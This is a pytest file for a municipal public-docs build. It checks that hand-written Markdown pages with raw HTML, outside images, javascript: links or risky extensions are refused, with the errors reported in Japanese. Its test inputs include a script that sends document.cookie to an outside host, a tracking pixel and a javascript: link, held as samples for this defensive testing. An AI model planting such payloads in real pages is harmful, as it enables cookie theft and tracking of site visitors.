"""Hand-written public pages (issue 13 §3): only the pages in the public nav are published, and
they are Markdown only — no raw HTML (the allow-list is empty), no image from outside the site,
no link that runs something. The real public build refuses anything else, naming the file and
line in Japanese, and leaves no site behind."""

from __future__ import annotations

from pathlib import Path

import pytest
from markdown import Markdown

from daicho import public_pages
from tests.test_public_build import _build, _copy, _edit_config

CONTACT = "# 窓口の案内\n\n総務部 法務課 情報公開班\n\n"


def hand_written(repo: Path, name: str, text: str) -> None:
    """A hand-written public page (the generated ones have their own names), listed in the nav."""
    (repo / "docs-public" / name).write_text(text, encoding="utf-8")
    config = repo / "mkdocs.public.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("\nnav:\n", f"\nnav:\n  - {name}: {name}\n", 1),
                      encoding="utf-8")


@pytest.mark.parametrize("body, line, what", [
    ("<div hidden>内線 1234 山田</div>\n", 5, "HTML タグ <div>"),
    ('受付時間 <span style="display:none">内線 1234</span>\n', 5, "HTML タグ <span>"),
    ("<script>fetch('https://example.net/?' + document.cookie)</script>\n", 5, "HTML タグ <script>"),
    ('<img src="https://tracker.example.net/pixel.png" alt="">\n', 5, "HTML タグ <img>"),
    ("<!-- 内線 1234 -->\n", 5, "HTML コメント"),
    ("地図\n\n![地図](https://maps.example.net/yachiyo.png)\n", 7, "サイトの外の画像"),
    ("[ここ](javascript:alert(1))を押してください\n", 5, "使えない種類のリンク"),
    ("行末に<br>改行\n", 5, "HTML タグ <br>"),
])
def test_raw_html_and_outside_resources_are_refused(tmp_path: Path, body: str, line: int, what: str) -> None:
    repo = _copy(tmp_path)
    hand_written(repo, "guide.md", CONTACT + body)
    result = _build(repo)
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    assert f"docs-public/guide.md:{line}: {what}" in result.stderr, result.stderr[-2000:]
    assert "公開ページに書けません" in result.stderr
    assert not (repo / "site-public" / "guide.html").exists()


def test_every_problem_of_every_page_is_reported_at_once(tmp_path: Path) -> None:
    repo = _copy(tmp_path)
    hand_written(repo, "guide.md", CONTACT + "<div hidden>a</div>\n\n<b>b</b>\n")
    hand_written(repo, "hours.md", "# 受付時間\n\n平日\n\n<script>x()</script>\n")
    result = _build(repo)
    assert result.returncode != 0
    for expected in ("docs-public/guide.md:5: HTML タグ <div>", "docs-public/guide.md:7: HTML タグ <b>",
                     "docs-public/hours.md:5: HTML タグ <script>"):
        assert expected in result.stderr, result.stderr[-2000:]


def test_a_page_not_in_the_nav_is_refused(tmp_path: Path) -> None:
    repo = _copy(tmp_path)
    (repo / "docs-public" / "draft.md").write_text("# 下書き\n\n未公開の案内\n", encoding="utf-8")
    result = _build(repo)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "nav）にないページは公開できません: draft.md" in result.stderr, result.stderr[-2000:]
    assert not (repo / "site-public" / "draft.html").exists()


@pytest.mark.parametrize("extension", ["attr_list", "md_in_html", "pymdownx.snippets"])
def test_markdown_extensions_that_add_html_or_files_are_refused(tmp_path: Path, extension: str) -> None:
    repo = _copy(tmp_path)
    _edit_config(repo, f"markdown_extensions:\n  - {extension}\n")
    result = _build(repo)
    assert result.returncode != 0
    assert f"公開サイトで使えない Markdown 拡張があります: {extension}" in result.stderr, result.stderr[-2000:]


def test_the_allow_lists_are_exactly_these() -> None:
    assert public_pages.ALLOWED_TAGS == frozenset()
    assert public_pages.ALLOWED_EXTENSIONS == {"toc", "tables", "fenced_code", "abbr", "def_list", "footnotes",
                                               "admonition", "sane_lists", "daicho.cjk_breaks"}
    assert public_pages.LINK_SCHEMES == {"", "http", "https", "mailto", "tel"}


@pytest.mark.parametrize("markdown", [
    "`<div hidden>` はコードなので表示されるだけ",
    "```html\n<script>alert(1)</script>\n```",
    "    <div>字下げしたコード</div>",
    "AT&amp;T と &copy; は文字",
    "[開示請求](disclosure.md)・[市のサイト](https://www.city.yachiyo.lg.jp/)・[電話](tel:0474833000)",
    "<https://www.city.yachiyo.lg.jp/> と ![ロゴ](assets/logo.png)",
])
def test_markdown_that_is_not_raw_html_passes(markdown: str) -> None:
    guard = public_pages.Guard()
    Markdown(extensions=["toc", "tables", "fenced_code", guard]).convert(markdown)
    assert guard.found == []
